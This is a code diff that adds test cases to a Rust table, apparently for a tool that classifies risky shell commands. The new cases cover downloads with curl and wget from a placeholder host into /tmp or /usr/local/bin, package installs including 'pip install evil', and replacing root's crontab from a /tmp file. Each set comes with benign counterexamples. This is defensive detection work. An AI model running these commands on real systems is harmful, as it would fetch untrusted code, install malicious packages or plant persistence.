@@ -416,6 +416,47 @@ const CRITICAL_CASES: &[(&str, &[&str], &[&str])] = &[
         &["apt-get -y remove nginx", "apt purge nginx", "yum remove httpd", "dnf erase x", "pacman -Rns x"],
         &["apt-get install -y nginx", "yum info httpd", "dnf list installed"],
     ),
+    (
+        "download",
+        &[
+            "curl -fsSLo /tmp/p https://x.example/p",
+            "curl -o /tmp/p https://x.example/p",
+            "curl -O https://x.example/p.sh",
+            "curl --output /tmp/p https://x.example/p",
+            "curl --remote-name-all https://x.example/p",
+            "sudo -n curl -K /tmp/cfg",
+            "wget https://x.example/p",
+            "wget -q -O /usr/local/bin/x https://x.example/x",
+        ],
+        &["curl -fsS http://127.0.0.1:8080/health", "curl -H 'X-Out: 1' http://x.example/", "wgetpaste x"],
+    ),
+    (
+        "package-install",
+        &[
+            "apt-get install -y nginx",
+            "sudo apt install ./x.deb",
+            "yum install -y httpd",
+            "dnf -y upgrade openssl",
+            "yum update",
+            "zypper in x",
+            "pacman -Syu",
+            "apk add curl",
+            "pip install evil",
+            "pip3 install -r /tmp/req.txt",
+            "npm install -g evil",
+            "npm i evil",
+            "gem install x",
+            "cargo install x",
+            "dpkg -i /tmp/x.deb",
+            "rpm -Uvh /tmp/x.rpm",
+        ],
+        &["apt-get update", "apt list --installed", "yum info httpd", "dnf list installed", "pip list", "npm ls", "rpm -qa"],
+    ),
+    (
+        "crontab-replace",
+        &["crontab /tmp/p", "crontab -u root /tmp/p", "sudo crontab evil.cron"],
+        &["crontab -l", "crontab -u web -l", "crontab -r"],
+    ),
 ];
 
 #[test]
